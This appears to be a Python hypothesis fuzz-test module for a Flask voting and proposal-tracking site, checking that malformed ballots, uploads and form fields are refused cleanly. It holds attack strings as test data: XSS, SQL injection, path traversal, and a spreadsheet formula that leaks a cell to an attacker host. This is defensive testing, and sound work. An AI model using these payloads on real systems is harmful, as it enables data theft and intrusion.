"""Fuzzing every public, booth and API endpoint, and the staff uploads, with hypothesis.

Ballot JSON of every wrong shape (and valid ballots with one part broken,
re-signed so they reach the proofs), huge numbers, wrong types, invalid and
small-order points, scalars out of range, receipts, QR images, form fields,
attachments, CSV/XLSX and JSON uploads. Whatever arrives:

- the answer is never a server error (5xx);
- a refusal is a 4xx with a message a person can read (an element with
  role="alert", a flashed error, or JSON ``{"error": ...}``);
- a refusal writes nothing: every table is compared, row by row, before and
  after (but rate_event, where refusals are counted on purpose).

Examples per test: PIAOJUE_FUZZ_EXAMPLES (default 80, four times that for the
cast API), kept small so the whole module runs in about half a minute; raise
it for a longer hunt.
"""

from __future__ import annotations

import copy
import csv
import hashlib
import io
import json
import os
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from typing import Any
from urllib.parse import quote

import pytest
import qrcode
from flask import Flask
from flask.testing import FlaskClient
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from PIL import Image
from sqlalchemy import select
from werkzeug.test import TestResponse

import ballot.models  # noqa: F401 - every table in the metadata
from ballot.db import Base, make_sessionmaker
from ballot.models import TrackedProject
from ballot.rehearsal import RehearsalConfig
from ballot.services import elections, proposals, rounds, staff
from booth.cast_client import RoundParameters, prepare_cast
from crypto.at_rest import AtRestKey
from crypto.credentials import derive_credential_key, sign_cast
from crypto.encrypted_ballot import ballot_digest
from tests.web_tools import Site, csrf, log_in_as, new_client, seeded_site, site_app

CONFIG = RehearsalConfig(rows=4, seats=1, deputies=10, present=10, voters=10, spoil=1,
                         voided=0, trustees=2, threshold=2, scrypt_n=2**10, tie=True,
                         election_id="fuzz-2026")
AT_REST = AtRestKey("fuzz tests at-rest secret")
SECRET = "fuzz tests flask secret"
DRAFT = "fuzz-draft-2026"
FUZZ = settings(max_examples=int(os.environ.get("PIAOJUE_FUZZ_EXAMPLES", "80")),
                deadline=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture,
                                       HealthCheck.too_slow, HealthCheck.data_too_large])
MORE = settings(FUZZ, max_examples=4 * FUZZ.max_examples)
"""For the cast API, where each example is cheap and the input space the largest."""


# --- the site, and what "nothing written" means --------------------------------------------

@dataclass
class Fuzzed:
    site: Site
    app: Flask
    staff_id: int
    returned_code: str
    api_code: str
    booth_code: str
    """A code that only ever makes challenges here: it stays unspent."""


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    yield from seeded_site(tmp_path_factory, CONFIG, AT_REST)


@pytest.fixture(scope="module")
def fuzzed(site: Site) -> Iterator[Fuzzed]:
    with make_sessionmaker(site.engine).begin() as s:
        elections.create_election(s, election_id=DRAFT, congress_name="草稿会议", level="county",
                                  year=2026, trustee_names=["甲", "乙"], threshold=2,
                                  at_rest=AT_REST)
        election = elections.get_election(s, site.election_id)
        proposal = proposals.submit(s, election, {
            "title": "待修改", "category": election.categories[0], "description": "说明",
            "proposer_name": "王五"})
        proposals.start_review(s, proposal, "审查员")
        proposals.return_for_revision(s, proposal, "审查员", "请补充")
        user = staff.create_staff(s, "fuzz-staff", "fuzz staff password", list(staff.ROLES),
                                  "Fuzz Staff", department="住建局")
        # P01 tracked, as a published selection round makes it (unless the rehearsal's
        # tie left it unelected), and in the fuzz staff member's department.
        counted = rounds.get_round(s, site.election_id, site.counted_round_id)
        p01 = counted.rows[0].project_id
        tracked = s.scalar(select(TrackedProject).where(TrackedProject.project_id == p01))
        if tracked is None:
            tracked = TrackedProject(election_id=site.election_id, elected_in_pk=counted.id,
                                     project_id=p01)
            s.add(tracked)
        tracked.department = "住建局"
        ids = (user.id, proposal.tracking_code)
    for app in site_app(site, AT_REST, SECRET):
        yield Fuzzed(site, app, ids[0], ids[1], site.codes.pop(), site.codes.pop())


def snapshot(site: Site) -> dict[str, str]:
    """A digest of every row of every table (but the refusal counter)."""
    found = {}
    with site.engine.connect() as conn:
        for table in Base.metadata.sorted_tables:
            if table.name == "rate_event":
                continue
            rows = conn.execute(select(table).order_by(*table.primary_key.columns)).all()
            found[table.name] = hashlib.sha256(repr(rows).encode()).hexdigest()
    return found


class _Alerts(HTMLParser):
    """Text inside visible elements with role="alert"."""

    def __init__(self) -> None:
        super().__init__()
        self.depth = 0
        self.texts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        named = dict(attrs)
        if self.depth:
            self.depth += 1
        elif named.get("role") == "alert" and "hidden" not in named:
            self.depth = 1
            self.texts.append("")

    def handle_endtag(self, tag: str) -> None:
        if self.depth:
            self.depth -= 1

    def handle_data(self, data: str) -> None:
        if self.depth:
            self.texts[-1] += data


def message_of(response: TestResponse, client: FlaskClient) -> str:
    """The refusal's words, wherever the page or the answer puts them."""
    if response.is_json:
        return str(response.get_json().get("error") or "")
    if response.status_code in (302, 303):
        with client.session_transaction() as session:
            flashed = session.pop("_flashes", [])
        return " ".join(m for category, m in flashed if category == "error")
    parser = _Alerts()
    parser.feed(response.get_data(as_text=True))
    return " ".join(t.strip() for t in parser.texts if t.strip())


def refused_cleanly(fuzzed: Fuzzed, client: FlaskClient, response: TestResponse,
                    before: dict[str, str], *, accepted: Callable[[TestResponse, str], bool]
                    ) -> bool:
    """No 5xx; unless ``accepted`` (given the answer and its error message, if any), a 4xx
    (or, on a staff page, a redirect with an error flash) with words, and nothing written.
    Returns whether it was a refusal."""
    status = response.status_code
    assert status < 500, response.get_data(as_text=True)[:2000]
    if status == 308:  # routing merged an empty path segment (//): nothing was handled
        assert snapshot(fuzzed.site) == before
        return False
    message = message_of(response, client)
    if accepted(response, message):
        return False
    assert message.strip(), (status, response.get_data(as_text=True)[:2000])
    if status in (302, 303):
        pass  # staff pages refuse by redirecting with the flashed error read above
    else:
        assert 400 <= status < 500, status
    assert snapshot(fuzzed.site) == before, (status, message)
    return True


def fresh(fuzzed: Fuzzed, staff_member: bool = False) -> FlaskClient:
    """A client on an address of its own (so rate limits do not end the hunt early)."""
    client = new_client(fuzzed.app, 9)
    if staff_member:
        log_in_as(client, fuzzed.site.engine, fuzzed.staff_id)
    return client


def never(response: TestResponse, message: str) -> bool:
    return False


def status_in(*statuses: int) -> Callable[[TestResponse, str], bool]:
    return lambda response, message: response.status_code in statuses


def without_error(response: TestResponse, message: str) -> bool:
    """A staff page that did what was asked (no error flashed): a valid upload or form."""
    return not message


# --- strategies ----------------------------------------------------------------------------

L = 2**252 + 27742317777372353535851937790883648493
SPECIAL_HEX = [
    "01" + "00" * 31,                        # the identity
    "00" * 32,                               # a point of order 4
    "ec" + "ff" * 30 + "7f",                 # y = -1: order 2
    "ed" + "ff" * 30 + "7f",                 # y = p: not canonical
    "ff" * 32,                               # a scalar far above L
    L.to_bytes(32, "little").hex(),          # exactly L
    (L - 1).to_bytes(32, "little").hex(),    # the largest scalar
    "AB" * 32,                               # upper case
    "ab" * 31,                               # too short
    "ab" * 33,                               # too long
    "zz" * 32,                               # not hex
    "",
]
huge_ints = st.one_of(st.integers(), st.integers(min_value=10**18, max_value=10**40),
                      st.integers(min_value=-(10**40), max_value=-1),
                      st.sampled_from([0, -1, 2**31, 2**63, 2**64, L, 10**29, 10**31]))
leaves = st.one_of(st.none(), st.booleans(), huge_ints, st.floats(allow_nan=True),
                   st.text(max_size=80), st.sampled_from(SPECIAL_HEX),
                   st.binary(min_size=32, max_size=32).map(bytes.hex))
json_values = st.recursive(leaves, lambda inner: st.one_of(
    st.lists(inner, max_size=5), st.dictionaries(st.text(max_size=12), inner, max_size=5)),
    max_leaves=25)
texts = st.one_of(st.text(max_size=300), st.sampled_from(
    ["", " ", "\x00", "\u202e", "<script>alert(1)</script>", "' OR 1=1 --", "../../etc/passwd",
     "%00", "１２３", "1e400", "NaN", "-0", "9" * 400, "赞成" * 200, "\r\n\t"]))


def paths(value: Any, here: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every path into a JSON value (keys and indices), the root included."""
    found = [here]
    if isinstance(value, dict):
        for key, item in value.items():
            found += paths(item, (*here, key))
    elif isinstance(value, list):
        for i, item in enumerate(value):
            found += paths(item, (*here, i))
    return found


def mutate(value: Any, path: tuple[Any, ...], how: str, new: Any) -> Any:
    """A copy of ``value`` with the part at ``path`` replaced, removed, duplicated or grown."""
    if not path:
        return new
    result = copy.deepcopy(value)
    parent = result
    for step in path[:-1]:
        parent = parent[step]
    last = path[-1]
    if how == "replace":
        parent[last] = new
    elif how == "remove":
        del parent[last]
    elif how == "duplicate" and isinstance(parent, list):
        parent.insert(last, copy.deepcopy(parent[last]))
    else:  # "extend": a new key or item beside it
        if isinstance(parent, list):
            parent.append(new)
        else:
            parent[f"extra-{len(parent)}"] = new
    return result


# --- the cast API --------------------------------------------------------------------------

def _round_parameters(fuzzed: Fuzzed) -> RoundParameters:
    doc = fresh(fuzzed).get(f"/api/rounds/{fuzzed.site.election_id}/"
                            f"{fuzzed.site.round_id}").get_json()
    return RoundParameters.from_json(doc)


@pytest.fixture(scope="module")
def valid_cast(fuzzed: Fuzzed) -> tuple[RoundParameters, dict[str, Any]]:
    params = _round_parameters(fuzzed)
    marks = [[0] * len(params.manifest.options) for _ in params.manifest.row_ids]
    marks[0][0] = 1
    return params, prepare_cast(params, fuzzed.api_code, marks).body


def _signed(params: RoundParameters, code: str, ballot: Any) -> str | None:
    try:
        digest = ballot_digest(params.context, ballot)
    except Exception:  # no canonical form (a float): it cannot be signed at all
        return None
    key = derive_credential_key(code, params.election_id, params.round_id)
    return sign_cast(key, params.context, digest).hex()


@MORE
@given(data=st.data())
def test_fuzz_cast_api(fuzzed: Fuzzed, valid_cast: tuple[RoundParameters, dict[str, Any]],
                       data: st.DataObject) -> None:
    params, valid = valid_cast
    kind = data.draw(st.sampled_from(["broken ballot"] * 5 + ["any body", "any fields",
                                                              "raw bytes"]))
    if kind == "broken ballot":  # a real ballot with one part broken, re-signed
        ballot = valid["ballot"]
        where = data.draw(st.sampled_from(paths(ballot)))
        how = data.draw(st.sampled_from(["replace", "remove", "duplicate", "extend"]))
        assume(where or how == "replace")
        broken = mutate(ballot, where, how, data.draw(json_values))
        assume(broken != ballot)
        signature = _signed(params, fuzzed.api_code, broken) \
            if data.draw(st.sampled_from([True, True, True, False])) else valid["signature"]
        raw = json.dumps({**valid, "ballot": broken, "signature": signature}).encode()
    elif kind == "any body":
        raw = json.dumps(data.draw(json_values)).encode()
    elif kind == "any fields":
        raw = json.dumps({"ballot": data.draw(json_values),
                          "credential": data.draw(json_values | st.just(valid["credential"])),
                          "signature": data.draw(json_values)}).encode()
    else:
        raw = data.draw(st.binary(max_size=2000))
    content_type = data.draw(st.sampled_from(["application/json"] * 8 + [
        "text/plain", "multipart/form-data"]))
    client = fresh(fuzzed)
    before = snapshot(fuzzed.site)
    response = client.post(f"/api/rounds/{fuzzed.site.election_id}/{fuzzed.site.round_id}"
                           "/cast", data=raw, content_type=content_type)
    assert response.is_json
    refused_cleanly(fuzzed, client, response, before, accepted=never)


@FUZZ
@given(election=texts, round_=texts)
def test_fuzz_api_round_paths(fuzzed: Fuzzed, election: str, round_: str) -> None:
    client = fresh(fuzzed)
    before = snapshot(fuzzed.site)
    for method in ("GET", "POST"):
        response = client.open(f"/api/rounds/{quote(election, safe='')}/"
                               f"{quote(round_, safe='')}" + ("/cast" if method == "POST" else ""),
                               method=method, json={})
        assert response.is_json or response.status_code == 308
        refused_cleanly(fuzzed, client, response, before, accepted=status_in(200))


# --- receipts and QR images ----------------------------------------------------------------

def _receipt_docs(site: Site) -> st.SearchStrategy[Any]:
    fields = {"election_id": st.sampled_from([site.election_id, DRAFT]) | texts,
              "round_id": st.sampled_from([site.round_id, site.counted_round_id]) | texts,
              "index": huge_ints | json_values,
              "entry_digest": st.sampled_from(SPECIAL_HEX) | json_values,
              "board_hash": st.sampled_from(SPECIAL_HEX) | json_values}
    receipt = st.fixed_dictionaries({}, optional=fields) | json_values
    return st.fixed_dictionaries({"receipt": receipt},
                                 optional={"signature": st.sampled_from(SPECIAL_HEX) |
                                           st.binary(min_size=64, max_size=64).map(bytes.hex) |
                                           json_values,
                                           "extra": json_values}) | json_values


def _as_text(doc: Any, form: str) -> str:
    import base64

    text = json.dumps(doc, ensure_ascii=False)
    if form == "json":
        return text
    link = base64.urlsafe_b64encode(text.encode("utf-8", "surrogatepass")).decode().rstrip("=")
    return link if form == "link" else f"https://example.org/verify?receipt={link}&x=1"


@FUZZ
@given(data=st.data())
def test_fuzz_receipts(fuzzed: Fuzzed, data: st.DataObject) -> None:
    if data.draw(st.booleans()):
        text = _as_text(data.draw(_receipt_docs(fuzzed.site)),
                        data.draw(st.sampled_from(["json", "link", "url"])))
    else:
        text = data.draw(texts)
    client = fresh(fuzzed)
    before = snapshot(fuzzed.site)
    for response in (client.get("/verify", query_string={"receipt": text}),
                     client.post("/verify", data={"csrf_token": csrf(client),
                                                  "receipt": text})):
        refused_cleanly(fuzzed, client, response, before, accepted=status_in(200))


def _png(image: Image.Image) -> bytes:
    out = io.BytesIO()
    image.save(out, format="PNG")
    return out.getvalue()


images = st.one_of(
    st.binary(max_size=3000),
    st.builds(lambda w, h, c: _png(Image.new("L", (w, h), c)), st.integers(1, 300),
              st.integers(1, 300), st.integers(0, 255)),
    st.builds(lambda t: _png(qrcode.make(t).get_image()), st.text(min_size=1, max_size=120)),
    st.builds(lambda n, t: _png(qrcode.make(t).get_image())[:n], st.integers(0, 400),
              st.text(min_size=1, max_size=40)),
    st.builds(lambda w, h: b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + w.to_bytes(4, "big") +
              h.to_bytes(4, "big") + b"\x08\x00\x00\x00\x00", st.integers(0, 2**32 - 1),
              st.integers(0, 2**32 - 1)),
)


@FUZZ
@given(image=images, filename=st.sampled_from(["qr.png", "qr.jpg", "qr", "../../x.png",
                                                "收据.png"]))
def test_fuzz_qr_uploads(fuzzed: Fuzzed, image: bytes, filename: str) -> None:
    client = fresh(fuzzed)
    before = snapshot(fuzzed.site)
    response = client.post("/verify", data={"csrf_token": csrf(client),
                                            "qr": (io.BytesIO(image), filename)},
                           content_type="multipart/form-data")
    refused_cleanly(fuzzed, client, response, before, accepted=never)


# --- the public proposal forms -------------------------------------------------------------

ATTACHMENT_TYPES = ["application/pdf", "image/jpeg", "image/png", "text/html",
                    "application/octet-stream", ""]


@FUZZ
@given(fields=st.dictionaries(st.sampled_from(
    ["title", "category", "description", "place", "cost", "beneficiaries", "proposer_name",
     "proposer_contact", "deputy_name", "unknown"]), texts | huge_ints.map(str), max_size=10),
    category=st.sampled_from(["城乡建设", "教育", ""]) | texts,
    attachment=st.none() | st.tuples(st.binary(max_size=2000) | st.sampled_from(
        [b"%PDF-1.4 x", b"\xff\xd8\xff\xe0", b"\x89PNG\r\n"]), texts,
        st.sampled_from(ATTACHMENT_TYPES)),
    election=st.sampled_from([CONFIG.election_id, DRAFT]) | texts)
def test_fuzz_propose(fuzzed: Fuzzed, fields: dict[str, str], category: str,
                      attachment: tuple[bytes, str, str] | None, election: str) -> None:
    client = fresh(fuzzed)
    form: dict[str, Any] = {"csrf_token": csrf(client), "category": category, **fields}
    if attachment is not None:
        body, name, kind = attachment
        form["attachment"] = (io.BytesIO(body), name or "file", kind)
    before = snapshot(fuzzed.site)
    response = client.post(f"/propose/{quote(election, safe='')}", data=form,
                           content_type="multipart/form-data")
    refused_cleanly(fuzzed, client, response, before, accepted=status_in(302))


@FUZZ
@given(code=texts, fields=st.dictionaries(st.sampled_from(
    ["title", "category", "description", "place", "cost", "beneficiaries"]), texts,
    max_size=6), use_real=st.booleans(), method=st.sampled_from(["GET", "POST"]))
def test_fuzz_track(fuzzed: Fuzzed, code: str, fields: dict[str, str], use_real: bool,
                    method: str) -> None:
    client = fresh(fuzzed)
    chosen = fuzzed.returned_code if use_real else code
    before = snapshot(fuzzed.site)
    if method == "GET":
        response = client.get("/track", query_string={"code": chosen})
    else:
        response = client.post("/track", data={"csrf_token": csrf(client), "code": chosen,
                                               **fields})
    revised = refused_cleanly(fuzzed, client, response, before, accepted=status_in(200)) \
        is False and snapshot(fuzzed.site) != before
    if revised:  # a valid revision: send the proposal back again for the next example
        with make_sessionmaker(fuzzed.site.engine).begin() as s:
            proposal = proposals.by_code(s, fuzzed.returned_code)
            proposals.return_for_revision(s, proposal, "审查员", "请再补充")


# --- the booth -----------------------------------------------------------------------------

hex_texts = st.text(alphabet="0123456789abcdef", min_size=60, max_size=68)


@FUZZ
@given(body=json_values | st.builds(lambda v: {"credential": v}, json_values | hex_texts))
def test_fuzz_credential_check(fuzzed: Fuzzed, body: Any) -> None:
    """Whatever the tablet is made to send as a key, a clean JSON refusal, nothing written."""
    client = fresh(fuzzed)
    before = snapshot(fuzzed.site)
    response = client.post(f"/api/rounds/{fuzzed.site.election_id}/{fuzzed.site.round_id}"
                           "/credential", json=body)
    assert response.is_json
    refused_cleanly(fuzzed, client, response, before, accepted=never)


@pytest.fixture(scope="module")
def valid_challenge(fuzzed: Fuzzed) -> dict[str, Any]:
    params = _round_parameters(fuzzed)
    marks = [[0] * len(params.manifest.options) for _ in params.manifest.row_ids]
    marks[0][0] = 1
    return prepare_cast(params, fuzzed.booth_code, marks).spoiled_entry


@FUZZ
@given(data=st.data())
def test_fuzz_challenge_api(fuzzed: Fuzzed, valid_challenge: dict[str, Any],
                            data: st.DataObject) -> None:
    """A challenged ballot with one part broken is refused and held nowhere."""
    where = data.draw(st.sampled_from(paths(valid_challenge)))
    how = data.draw(st.sampled_from(["replace", "remove", "duplicate", "extend"]))
    assume(where or how == "replace")
    broken = mutate(valid_challenge, where, how, data.draw(json_values))
    assume(broken != valid_challenge)
    client = fresh(fuzzed)
    before = snapshot(fuzzed.site)
    response = client.post(f"/api/rounds/{fuzzed.site.election_id}/{fuzzed.site.round_id}"
                           "/challenge", json=broken)
    assert response.is_json
    refused_cleanly(fuzzed, client, response, before, accepted=never)


@FUZZ
@given(election=texts, round_=texts, page=texts, index=huge_ints.filter(lambda n: n >= 0))
def test_fuzz_public_paths(fuzzed: Fuzzed, election: str, round_: str, page: str,
                           index: int) -> None:
    client = fresh(fuzzed)
    e, r = quote(election, safe=""), quote(round_, safe="")
    known_e, known_r = fuzzed.site.election_id, fuzzed.site.counted_round_id
    before = snapshot(fuzzed.site)
    for path in (f"/board/{e}/{r}", f"/board/{known_e}/{known_r}", f"/results/{e}/{r}",
                 f"/turnout/{e}/{r}", f"/spoiled/{known_e}/{known_r}/{index}",
                 f"/spoiled/{e}/{r}/{index}", f"/record/{e}/{r}.zip", f"/proposals/{e}",
                 f"/propose/{e}", f"/booth/{e}/{r}/"):
        response = client.get(path, query_string={"page": page})
        refused_cleanly(fuzzed, client, response, before, accepted=status_in(200))


# --- staff uploads and forms ---------------------------------------------------------------

def _csv(rows: list[list[str]]) -> bytes:
    import csv

    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode("utf-8")


_ILLEGAL_IN_XLSX = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _xlsx(rows: list[list[Any]]) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append([_ILLEGAL_IN_XLSX.sub("", v) if isinstance(v, str) else v
                      for v in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _damaged(data: bytes, cut: int, flip: int) -> bytes:
    """A workbook with one member truncated and one byte flipped."""
    whole = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as damaged:
        items = whole.infolist()
        for i, item in enumerate(items):
            body = bytearray(whole.read(item.filename))
            if i == cut % len(items):
                body = body[: len(body) * (flip % 4) // 4]
            elif body and i == flip % len(items):
                body[flip % len(body)] ^= 0x5A
            damaged.writestr(item, bytes(body))
    return out.getvalue()


HEADERS = {"deputies": ["座位号", "姓名", "代表团"],
           "projects": ["编号", "项目名称", "类别", "地点", "实施单位", "估算金额"],
           "proposals": ["项目名称", "类别", "内容", "地点", "估算金额", "提议人"]}
cells = texts | huge_ints.map(str) | st.floats().map(str)


def table_files(kind: str) -> st.SearchStrategy[tuple[bytes, str]]:
    rows = st.lists(st.lists(cells, max_size=7), max_size=6)
    headed = rows.map(lambda body: [HEADERS[kind], *body])
    workbook_rows = st.lists(st.lists(cells | huge_ints | st.floats(allow_nan=False) |
                                      st.none(), max_size=7), max_size=6)
    return st.one_of(
        st.tuples(st.binary(max_size=3000), st.sampled_from(["x.csv", "x.xlsx", "x.txt"])),
        st.tuples(headed.map(_csv), st.just("x.csv")),
        st.tuples(rows.map(_csv), st.just("x.csv")),
        st.tuples(headed.map(lambda r: "\r".join(",".join(x) for x in r).encode()),
                  st.just("x.csv")),
        st.tuples(workbook_rows.map(lambda body: _xlsx([HEADERS[kind], *body])),
                  st.just("x.xlsx")),
        st.tuples(st.builds(_damaged, workbook_rows.map(lambda b: _xlsx([HEADERS[kind], *b])),
                            st.integers(0, 20), st.integers(0, 10**6)), st.just("x.xlsx")),
    )


@FUZZ
@given(data=st.data())
def test_fuzz_table_imports(fuzzed: Fuzzed, data: st.DataObject) -> None:
    kind = data.draw(st.sampled_from(["deputies", "projects", "proposals"]))
    upload, name = data.draw(table_files(kind))
    dry_run = data.draw(st.sampled_from(["1", "0", ""]))
    client = fresh(fuzzed, staff_member=True)
    path = (f"/admin/e/{CONFIG.election_id}/proposals/import" if kind == "proposals"
            else f"/admin/e/{DRAFT}/import/{kind}")
    before = snapshot(fuzzed.site)
    response = client.post(path, data={"csrf_token": csrf(client), "dry_run": dry_run,
                                       "file": (io.BytesIO(upload), name)},
                           content_type="multipart/form-data")
    refused_cleanly(fuzzed, client, response, before, accepted=without_error)


@FUZZ
@given(doc=json_values | st.fixed_dictionaries({
    "format": st.sampled_from(["piaojue-credential-keys/1", "x"]),
    "election_id": st.just(CONFIG.election_id) | texts,
    "round_id": st.sampled_from(["midyear-rating", "runoff-1"]) | texts,
    "keys": st.lists(st.sampled_from(SPECIAL_HEX) | json_values, max_size=4) | json_values}),
    target=st.sampled_from(["ceremony", "share", "keys", "share-counted"]),
    raw=st.none() | st.binary(max_size=500))
def test_fuzz_json_uploads(fuzzed: Fuzzed, doc: Any, target: str, raw: bytes | None) -> None:
    e, r, counted = CONFIG.election_id, fuzzed.site.round_id, fuzzed.site.counted_round_id
    path = {"ceremony": f"/admin/e/{DRAFT}/ceremony", "share": f"/admin/e/{e}/r/{r}/share",
            "keys": f"/admin/e/{e}/r/{r}/keys",
            "share-counted": f"/admin/e/{e}/r/{counted}/share"}[target]
    body = raw if raw is not None else json.dumps(doc).encode()
    client = fresh(fuzzed, staff_member=True)
    before = snapshot(fuzzed.site)
    response = client.post(path, data={"csrf_token": csrf(client),
                                       "file": (io.BytesIO(body), "upload.json")},
                           content_type="multipart/form-data")
    refused_cleanly(fuzzed, client, response, before, accepted=without_error)


@FUZZ
@given(fields=st.dictionaries(st.sampled_from(
    ["election_id", "congress_name", "level", "year", "trustees", "threshold", "quorum",
     "ratio_min", "ratio_max", "categories", "round_id", "kind", "title", "seats", "basis",
     "options", "project", "seat", "name", "delegation", "key", "count", "q", "confirm",
     "new_id", "undo", "on_leave"]), texts | huge_ints.map(str), max_size=10),
    target=st.sampled_from(["elections", "rounds", "deputy", "checkin", "leave", "void",
                            "slips", "close", "followup", "nonsense"]))
def test_fuzz_staff_forms(fuzzed: Fuzzed, fields: dict[str, str], target: str) -> None:
    e, r = CONFIG.election_id, fuzzed.site.round_id
    path = {"elections": "/admin/elections", "rounds": f"/admin/e/{DRAFT}/rounds",
            "deputy": f"/admin/e/{e}/deputy", "checkin": f"/admin/e/{e}/r/{r}/checkin",
            "leave": f"/admin/e/{e}/r/{r}/leave", "void": f"/admin/e/{e}/r/{r}/void",
            "slips": f"/admin/e/{e}/r/{r}/slips",
            "close": f"/admin/e/{e}/r/{fuzzed.site.counted_round_id}/close",
            "followup": f"/admin/e/{e}/r/{fuzzed.site.counted_round_id}/followup",
            "nonsense": f"/admin/e/{e}/r/{r}/nonsense"}[target]
    client = fresh(fuzzed, staff_member=True)
    before = snapshot(fuzzed.site)
    response = client.post(path, data={"csrf_token": csrf(client), **fields})
    refused_cleanly(fuzzed, client, response, before,
                    accepted=lambda r, message: r.mimetype == "application/pdf" or
                    without_error(r, message))


# --- 晒单 and 评单 ------------------------------------------------------------------------------

@FUZZ
@given(fields=st.dictionaries(st.sampled_from(["name", "contact", "question", "unknown"]),
                              texts | huge_ints.map(str), max_size=4),
       code=st.sampled_from(["P01", "P02"]) | texts,
       election=st.sampled_from([CONFIG.election_id, DRAFT]) | texts)
def test_fuzz_project_questions(fuzzed: Fuzzed, fields: dict[str, str], code: str,
                                election: str) -> None:
    client = fresh(fuzzed)
    before = snapshot(fuzzed.site)
    response = client.post(f"/projects/{quote(election, safe='')}/{quote(code, safe='')}",
                           data={"csrf_token": csrf(client), **fields})
    refused_cleanly(fuzzed, client, response, before, accepted=status_in(302))


TRACKING_FIELDS = ["percent", "state", "text", "delay_reason", "department", "budget",
                   "planned_start", "planned_end", "title", "due", "milestone", "done_on",
                   "deputy", "quarter", "verdict", "conclusion", "question", "answer",
                   "reason", "task", "report", "stage", "round_id", "threshold", "rerating",
                   "instructions"]


@FUZZ
@given(fields=st.dictionaries(st.sampled_from(TRACKING_FIELDS), texts | huge_ints.map(str)
                              | st.sampled_from(["in_progress", "delayed", "completed",
                                                 "2026-05-01", "2026Q2", "on_track", "50"]),
                              max_size=8),
       action=st.sampled_from(["plan", "milestone", "milestone_done", "supervisors", "update",
                               "check", "answer", "publish_question", "withhold_question",
                               "report", "nonsense"]),
       target=st.sampled_from(["project", "ratings", "rectifications"]),
       attachment=st.none() | st.tuples(st.binary(max_size=2000) | st.sampled_from(
           [b"%PDF-1.4 x", b"\xff\xd8\xff\xe0", b"\x89PNG\r\n"]), texts,
           st.sampled_from(ATTACHMENT_TYPES)))
def test_fuzz_tracking_forms(fuzzed: Fuzzed, fields: dict[str, str], action: str, target: str,
                             attachment: tuple[bytes, str, str] | None) -> None:
    e = CONFIG.election_id
    path = {"project": f"/admin/e/{e}/projects/P01/{action}",
            "ratings": f"/admin/e/{e}/ratings",
            "rectifications": f"/admin/e/{e}/rectifications/{fuzzed.site.counted_round_id}",
            }[target]
    client = fresh(fuzzed, staff_member=True)
    form: dict[str, Any] = {"csrf_token": csrf(client), **fields}
    if attachment is not None:
        body, name, kind = attachment
        form["files"] = (io.BytesIO(body), name or "file", kind)
    before = snapshot(fuzzed.site)
    response = client.post(path, data=form, content_type="multipart/form-data")
    refused_cleanly(fuzzed, client, response, before, accepted=without_error)


FORMULA = '=HYPERLINK("http://attacker.example/?leak="&B3,"x")'


def test_formula_injection_a_proposal_title_reaches_the_exports_as_text(
        fuzzed: Fuzzed) -> None:
    """The attack of issue 13: a public proposal whose title is a formula, then the
    reviewer's CSV and XLSX exports of the proposals."""
    client = fresh(fuzzed)
    response = client.post(f"/propose/{CONFIG.election_id}", data={
        "csrf_token": csrf(client), "title": FORMULA, "category": "城乡建设",
        "description": "x", "place": "y", "proposer_name": "@me", "cost": "3"},
        content_type="multipart/form-data")
    assert response.status_code == 302
    staff_client = fresh(fuzzed, staff_member=True)
    exported = staff_client.get(f"/admin/e/{CONFIG.election_id}/proposals/export.csv")
    assert exported.status_code == 200
    table = list(csv.reader(io.StringIO(exported.get_data().decode("utf-8-sig"))))
    rows = [row for row in table if FORMULA in "".join(row)]
    assert rows
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in table for cell in row)
    assert "'" + FORMULA in rows[0]
    workbook = staff_client.get(f"/admin/e/{CONFIG.election_id}/proposals/export.xlsx")
    sheet = load_workbook(io.BytesIO(workbook.get_data())).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert FORMULA in [cell.value for cell in cells]
